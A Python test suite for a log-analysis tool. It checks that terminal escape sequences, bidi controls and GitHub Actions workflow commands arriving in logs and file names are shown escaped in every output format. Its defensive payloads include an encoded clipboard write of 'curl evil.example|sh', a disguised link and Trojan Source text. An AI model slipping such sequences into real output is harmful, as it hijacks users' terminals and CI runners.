"""Untrusted text in every output (issue 24, D3, D4, D15, D16): log lines, file names and archive
member names reach the terminal, the JSON, the shareable formats and stderr with every control
character, escape sequence and bidi control shown visibly; any byte sequence as a name is shown
escaped and never costs the run, the archive or the JSON's validity; the runner reads no command."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pdlogdoctor.cli.output import WriteFailed, deliver
from pdlogdoctor.model import OutputFormat
from pdlogdoctor.render.neutralise import DefusedJson, defuse_commands, defuse_output, one_line, shown

from .bundle_copy import SEED

VERDICT = "mori-mr-size-limit"
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# What no output may hold raw when it came from the input: C0 but TAB and LF, DEL, C1, bidi
# controls, invisible format characters, line and paragraph separators, lone surrogates.
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]")
# The terminal report's own colour (only with --color always), the one escape sequence allowed.
OWN_SGR = re.compile(r"\x1b\[[0-9;]*m")
# Markdown's own zero-width space (render/markup.py), the one invisible character allowed: where it
# breaks an autolink (`https\u200b://`), a reference (`#\u200b1`) or a mention (`@\u200bname`) in quoted text.
OWN_ZWSP = re.compile(r"(?i)(\b(?:https?|ftp|www)|#|\bGH-|@)\u200b")

# Payloads from the review (D4, D15): OSC 52 writes the clipboard, OSC 8 a disguised link, OSC 0 the
# title, OSC 1337 an iTerm2 file, RIS clears the screen, C1 CSI/OSC, BEL, backspaces that rewrite a
# status, and bidi controls that make a line read differently from its bytes (Trojan Source).
PAYLOADS = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b]0;pwned\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x1b]1337;File=name=eA==:eA==\x07",
    "\x1bc \x9b31m \x9d0;t\x9c status=500\b\b\b200 \x07",
    "user \u202eexe.log\u202c admin=\u2066false\u2069 \u200fx \u2067y\u2069 \u061cz",
)
PAYLOAD_LINE = "[2026-07-02 10:16:03] INFO:     request failed " + " ".join(PAYLOADS)


# ---------------------------------------------------------------- the sanitiser


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec=None), max_size=80))
def test_shown_leaves_no_raw_control_or_bidi_character(text: str) -> None:
    out = shown(text)
    assert not RAW.search(out) and "\n" not in out
    assert shown(out) == out  # shown text is safe as it is: a second pass changes nothing
    multiline = shown(text, multiline=True)
    assert not RAW.search(multiline) and multiline.count("\n") == text.count("\n")


@given(st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=80))
def test_printable_ascii_is_shown_as_it_is(text: str) -> None:
    assert shown(text) == text


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.text(alphabet=st.sampled_from(["#", "[", "a", "\u202e", "\x1b", "\udcff", "\n"]), max_size=12), max_size=8
    )
)
def test_a_json_report_defused_piece_by_piece_is_the_report_defused_whole(pieces: list[str]) -> None:
    """The JSON report is written to stdout as it is encoded (cli/behaviour._render_json_to): however
    the pieces cut it, a `##[` they split is defused and every unsafe character escaped, as in one pass."""
    out = io.StringIO()
    defused = DefusedJson(out)
    for piece in pieces:
        defused.write(piece)
    defused.finish()
    assert out.getvalue() == defuse_output("".join(pieces), OutputFormat.JSON)


def test_each_kind_is_shown_by_what_it_is() -> None:
    assert shown("a\x1b]0;t\x07b\tc") == "a\\x1b]0;t\\x07b\tc"  # TAB stays: logs align with it
    assert shown("status=500\b\b\b200") == "status=500\\x08\\x08\\x08200"
    assert shown("x\x9b31m") == "x\\x9b31m"
    assert shown("user \u202eexe.log") == "user <U+202E>exe.log"
    assert shown("router-\udcff.log") == "router-\\xff.log"  # a name's byte that is not UTF-8
    assert shown("a\nb") == "a\\nb" and shown("a\nb", multiline=True) == "a\nb"


def test_stderr_names_and_messages_use_the_same_sanitiser() -> None:
    assert one_line("rank3\n::warning title=x::y.log") == "rank3\\n::warning title=x::y.log"
    assert one_line("a\u202eb\udcfe") == "a<U+202E>b\\xfe"


# ---------------------------------------------------------------- the runner's parser (D16)

# What ICU's collation ignores in a culture-sensitive IndexOf/StartsWith (actions/runner's
# ActionCommand.cs uses both): default-ignorable code points, among them U+200B.
IGNORABLE = re.compile(
    r"[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\ufe00-\ufe0f]"
)


def runner_commands(stream: str) -> list[str]:
    """Commands the runner would act on, read as ICU reads: ignorable characters removed first."""
    found = []
    for line in re.split(r"\r\n|\r|\n", stream):
        line = IGNORABLE.sub("", line)
        if line.lstrip().startswith("::") and line.lstrip().find("::", 2) > 2:
            found.append(line.lstrip()[2 : line.lstrip().find("::", 2)])
        if "##[" in line:
            found.append(line[line.index("##[") :])
    return found


def test_the_defused_markers_are_no_command_to_an_icu_reader() -> None:
    """D16: `#\\u200b#[` is `##[` once ICU ignores the zero-width space."""
    assert runner_commands("x #\u200b#[error]y") != []  # the old defence, as ICU reads it
    for text in ("a ##[error]b", "  ::set-output name=a::b", "x\r::add-mask::y", "##[group]x\n::warning::y"):
        assert runner_commands(defuse_commands(text)) == [], defuse_commands(text)
        assert runner_commands(one_line(text)) == []
    assert runner_commands(defuse_output("line ##[error]x\n", OutputFormat.GITHUB)) == []


# ---------------------------------------------------------------- every output, end to end


def _bundle(tmp_path: Path, names: dict[str, str]) -> Path:
    """The seed with the payload line beside its first chain line, and the logs renamed (bytes allowed)."""
    target = tmp_path / "bundle"
    target.mkdir()
    for source in sorted(SEED.iterdir()):
        if source.name == "expected.toml":
            continue
        data = source.read_bytes()
        if source.name.startswith("prefill"):
            lines = data.split(b"\n")
            lines.insert(35, PAYLOAD_LINE.encode())
            data = b"\n".join(lines)
        name = os.fsencode(names.get(source.name, source.name))
        Path(os.fsdecode(os.path.join(os.fsencode(target), name))).write_bytes(data)
    return target


def _run(args: list[str], env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
    # The suite's private cache directory (conftest.private_cache_dir) holds the parsed library: each
    # run reads it instead of parsing the library again (0.8 s a run).
    environment = {**os.environ, "COLUMNS": "120", **(env or {})}
    return subprocess.run([sys.executable, "-m", "pdlogdoctor", "analyze", *args], capture_output=True, env=environment)


NASTY_NAMES = {  # bidi, an escape sequence and a byte that is not UTF-8, in the logs' names
    "router.log": "router-\udcff\udcfe.log",
    "bench.log": "bench-\u202egol.log",
    "decode_mia1-p06-g14.log": "decode_mia1-p06-g14\x1b]0;t\x07.log",
}


# Every format with each option that changes what it prints, under one locale; under the other, each
# format as it is (the locale changes how the output is encoded, not what the options print).
EXTRAS = {"C.UTF-8": ([], ["--no-redact"], ["-v"]), "en_US.UTF-8": ([],)}
MARKDOWN_OUTPUTS = {
    "summary",
    "-o md",
    *(f"{fmt} {extra} stdout" for fmt in ("markdown", "github") for extra in EXTRAS["C.UTF-8"]),
}


@pytest.mark.parametrize("locale", ["C.UTF-8", "en_US.UTF-8"])
def test_no_output_holds_a_raw_control_or_bidi_character_from_the_input(tmp_path: Path, locale: str) -> None:
    bundle = _bundle(tmp_path, NASTY_NAMES)
    summary, report_md, report_json = tmp_path / "summary.md", tmp_path / "r.md", tmp_path / "r.json"
    env = {"LC_ALL": locale, "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_WORKSPACE": str(tmp_path)}
    outputs: dict[str, bytes] = {}
    for fmt in ("text", "json", "markdown", "github", "html"):
        for extra in EXTRAS[locale]:
            done = _run(["-f", fmt, *extra, str(bundle)], env)
            assert done.returncode == 1, (fmt, extra, done.stderr[-500:])
            outputs[f"{fmt} {extra} stdout"] = done.stdout
            outputs[f"{fmt} {extra} stderr"] = done.stderr
    done = _run(["-f", "text", "--color", "always", str(bundle)], env)
    outputs["text colour"] = OWN_SGR.sub("", done.stdout.decode())
    done = _run(["-o", str(report_md), "-o", str(report_json), str(bundle)], env)
    assert done.returncode == 1, done.stderr
    outputs |= {"summary": summary.read_bytes(), "-o md": report_md.read_bytes(), "-o json": report_json.read_bytes()}
    for where, data in outputs.items():
        text = data if isinstance(data, str) else data.decode("utf-8")  # strict: every output is UTF-8
        text = OWN_ZWSP.sub(r"\1", text) if where in MARKDOWN_OUTPUTS else text
        assert not RAW.search(text), (where, RAW.search(text))
    for where in ("json [] stdout", "-o json"):
        document = json.loads(outputs[where])
        assert document["verdict"]["id"] == VERDICT
        files = {source["file"] for source in document["inputs"]}
        assert any(name.endswith("router-\\xff\\xfe.log") for name in files), files
    if ["-v"] in EXTRAS[locale]:
        assert b"bench-<U+202E>gol.log" in outputs["text ['-v'] stdout"]  # the inputs table names every file
        markdown = outputs["markdown ['--no-redact'] stdout"]  # the excerpt quotes the payload line
        assert b"user <U+202E>exe.log<U+202C>" in markdown and b"status=500\\x08\\x08\\x08200" in markdown


def test_a_zip_member_whose_name_is_not_utf8_costs_that_name_only(tmp_path: Path) -> None:
    """D3: the UTF-8 flag with bytes that are not UTF-8 made the whole archive corrupt (exit 4)."""
    archive = tmp_path / "logs.zip"
    with zipfile.ZipFile(archive, "w") as out:
        for source in sorted(SEED.glob("*.log")):
            out.write(source, f"run/{source.name}")
        out.writestr("run/notes-XXXXX.txt", "[2026-07-02 10:16:30] INFO: notes\n")
    data = archive.read_bytes().replace(b"notes-XXXXX", b"notes-\xff\xfe\xfd\xfc\xfb")
    for header in (b"PK\x03\x04", b"PK\x01\x02"):  # set the UTF-8 flag (bit 11) of the renamed member
        at = data.find(b"notes-\xff")
        while at != -1:
            start = data.rfind(header, 0, at)
            flag_at = start + (6 if header == b"PK\x03\x04" else 8)
            flags = int.from_bytes(data[flag_at : flag_at + 2], "little") | 0x800
            data = data[:flag_at] + flags.to_bytes(2, "little") + data[flag_at + 2 :]
            at = data.find(b"notes-\xff", at + 1)
    archive.write_bytes(data)
    with pytest.raises(UnicodeDecodeError):
        zipfile.ZipFile(archive)  # what the archive does to Python's zipfile
    done = _run(["-f", "json", str(archive)])
    assert done.returncode == 1, done.stderr
    document = json.loads(done.stdout)
    assert document["verdict"]["id"] == VERDICT
    names = {source["file"].split("!", 1)[1] for source in document["inputs"]}
    assert "run/notes-\\xff\\xfe\\xfd\\xfc\\xfb.txt" in names and "run/router.log" in names


def test_a_tar_member_whose_name_is_not_utf8_is_read_and_shown_escaped(tmp_path: Path) -> None:
    archive = tmp_path / "logs.tar"
    with tarfile.open(archive, "w", format=tarfile.GNU_FORMAT, encoding="latin-1") as out:
        for source in sorted(SEED.glob("*.log")):
            name = f"run/{source.name}".replace("router", "router-caf\u00e9")
            out.add(source, name)
    done = _run(["-f", "json", str(archive)])
    assert done.returncode == 1, done.stderr
    document = json.loads(done.stdout)
    assert any(source["file"].endswith("!run/router-caf\\xe9.log") and source["bytes"] for source in document["inputs"])


def test_a_character_the_output_cannot_hold_is_a_write_failure(tmp_path: Path) -> None:
    """A UnicodeError on writing is one line and exit 2, never a traceback and exit 1 (a root cause)."""
    with pytest.raises(WriteFailed):
        deliver("report \udcff\n", tmp_path / "r.md")
    assert not (tmp_path / "r.md").exists()


def test_a_stdout_that_holds_only_ascii_still_gets_the_report() -> None:
    """A locale or PYTHONIOENCODING of ASCII: the report's own `…` and `·` are escaped, not fatal."""
    done = subprocess.run(
        [sys.executable, "-m", "pdlogdoctor", "analyze", str(SEED)],
        capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": "ascii"},
    )
    assert done.returncode == 1, done.stderr
    assert done.stdout.isascii() and b"mori-mr-size-limit \\xb7 confidence" in done.stdout
